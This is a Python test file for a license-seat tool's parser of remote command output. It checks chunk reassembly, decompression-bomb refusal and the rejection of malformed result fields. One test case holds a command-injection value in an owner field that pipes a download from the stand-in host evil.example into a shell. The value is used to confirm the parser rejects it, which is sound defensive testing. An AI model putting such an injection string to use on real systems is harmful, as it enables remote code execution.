import base64
import gzip
import hashlib
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from seatpool.api.list_backends import XlcSettings
from seatpool.servers.command_result import BadOutput, Result, ScriptRefused
from seatpool.servers.commands import MAX_FENCE, MAX_REVISION, OWNER_PATTERN, ListCommand
from seatpool.servers.ssm.list_parser import UnreadableList
from seatpool.servers.ssm.output_parser import Listed, NotWhole, chunks, read_summary, whole_text
from seatpool.servers.ssm.xlc import XlcAdapter


def packed(text: str) -> tuple[str, Listed]:
    letters = base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()
    return letters, Listed(length=len(letters), sha=hashlib.sha256(letters.encode()).hexdigest())


def summary(listed: Listed | None, /, **changes: Any) -> str:
    entry = {"product": "vew", "result": "listed", "fence": 4, "owner": "here", "code": 0, "detail": "",
             "listed": None if listed is None else listed.model_dump(exclude_none=True)}  # fmt: skip
    return json.dumps({"v": 1, "revision": 4, "results": [entry | changes]})


@given(
    text=st.text(alphabet=st.characters(codec="utf-8"), max_size=500),
    sizes=st.lists(st.integers(1, 60), max_size=30),
    order=st.randoms(),
)
def test_chunks_in_any_order_and_overlapping_give_the_text_back(text: str, sizes: list[int], order: Any) -> None:
    letters, listed = packed(text)
    pieces, start = [], 0
    for size in [*sizes, len(letters)]:
        pieces.append((max(0, start - 2), letters[max(0, start - 2) : start + size]))
        start += size
    order.shuffle(pieces)
    assert whole_text(pieces, listed) == text


def test_what_is_missing_is_told_by_where_it_begins() -> None:
    letters, listed = packed("ann\n")
    assert whole_text([], listed) == NotWhole(0)
    assert whole_text([(0, letters[:10]), (20, letters[20:])], listed) == NotWhole(10)


def test_a_list_that_changed_between_two_fetches_is_noticed() -> None:
    letters, listed = packed("ann\n")
    other, _ = packed("bob\n")
    with pytest.raises(UnreadableList, match="printed anew"):
        whole_text([(0, letters[:20]), (20, other[20:])], listed)


def test_a_small_text_that_unpacks_to_an_endless_one_is_refused() -> None:
    letters, listed = packed("a" * 50_000_000)
    with pytest.raises(UnreadableList, match="larger than any list"):
        whole_text([(0, letters)], listed)


def test_text_that_is_not_packed_is_refused() -> None:
    letters = "AAAA"
    with pytest.raises(UnreadableList, match="damaged"):
        whole_text([(0, letters)], Listed(length=4, sha=hashlib.sha256(letters.encode()).hexdigest()))


@given(st.text())
def test_any_output_is_a_summary_or_refused(text: str) -> None:
    with pytest.raises(BadOutput):
        read_summary(text)
    assert list(chunks(text)) == []


@pytest.mark.parametrize(
    "changes",
    [
        {"fence": "4"},
        {"fence": -1},
        {"fence": MAX_REVISION},
        {"fence": 10**40},
        {"result": "done"},
        {"owner": "x" * 65},
        {"owner": "old; curl -s evil.example|sh #\x1b[8m"},
        {"owner": "old\n"},
        {"code": None},
        {"detail": 7},
        {"listed": {"length": 10**9, "sha": "0" * 64}},
    ],
)
def test_a_result_with_a_value_that_cannot_be_is_its_products_failure_and_no_others(changes: dict[str, Any]) -> None:
    good = {"product": "ansys", "result": "applied", "fence": 4, "owner": "", "code": 0, "detail": "", "listed": None}
    whole = json.loads(summary(None, **changes))
    whole["results"].append(good)
    products = XlcAdapter(XlcSettings()).parse([json.dumps(whole)]).products
    (field,) = changes
    assert (products["vew"].result, products["vew"].owner, products["vew"].fence) == (Result.FAILED, "", 0)
    assert field in products["vew"].detail
    assert "\x1b" not in products["vew"].detail
    assert products["ansys"].result is Result.APPLIED


@given(
    owner=st.one_of(st.text(max_size=80), st.from_regex(OWNER_PATTERN, fullmatch=True)),
    fence=st.one_of(st.integers(), st.integers(0, MAX_FENCE), st.none(), st.text(max_size=5)),
)
def test_an_owner_and_a_fence_are_those_of_a_command_or_the_product_failed(owner: str, fence: Any) -> None:
    product = XlcAdapter(XlcSettings()).parse([summary(None, owner=owner, fence=fence)]).products["vew"]
    assert product.owner == "" or re.fullmatch(OWNER_PATTERN, product.owner)
    ListCommand(revision=product.fence + 1, owner="here", products=("vew",))
    good = (not owner or re.fullmatch(OWNER_PATTERN, owner)) and isinstance(fence, int) and 0 <= fence <= MAX_FENCE
    assert product.result is (Result.LISTED if good else Result.FAILED)


@pytest.mark.parametrize("product", [None, 7, "", "a b", "x" * 64])
def test_a_result_of_no_product_is_refused(product: Any) -> None:
    with pytest.raises(BadOutput, match="names no product"):
        read_summary(summary(None, product=product, fence=-1)).entries()


def test_what_the_script_says_before_it_begins_is_passed_on() -> None:
    with pytest.raises(ScriptRefused, match="install flock"):
        read_summary('{"v":1,"revision":0,"results":[],"error":"install flock"}')


def test_a_list_that_cannot_be_read_makes_the_product_fail_and_keeps_what_the_client_said() -> None:
    settings = XlcSettings.model_validate({"listFormat": {"type": "Json"}})
    letters, listed = packed("oops")
    report = XlcAdapter(settings).parse([f"{summary(listed, detail='fine')}\n= vew 0 {letters}\n"]).products["vew"]
    assert report.result is Result.FAILED
    assert report.detail.startswith("fine; spec.xlc.listFormat: type Json")
    assert report.users is None


@pytest.mark.parametrize(
    ("printed", "users", "placeholder"),
    [
        ("seatpool-placeholder\n", (), True),
        ("", (), False),
        ("ann\nseatpool-placeholder\n", ("ann", "seatpool-placeholder"), False),
    ],
)
def test_the_placeholder_alone_is_an_empty_list(printed: str, users: tuple[str, ...], placeholder: bool) -> None:
    letters, listed = packed(printed)
    report = XlcAdapter(XlcSettings()).parse([f"{summary(listed)}\n= vew 0 {letters}\n"]).products["vew"]
    assert (report.users, report.placeholder) == (users, placeholder)


def test_a_conflict_stays_a_conflict_when_the_list_cannot_be_read() -> None:
    settings = XlcSettings.model_validate({"listFormat": {"type": "Json"}})
    letters, listed = packed("oops")
    output = f"{summary(listed, result='owner', owner='there')}\n= vew 0 {letters}\n"
    assert XlcAdapter(settings).parse([output]).products["vew"].result is Result.OWNER
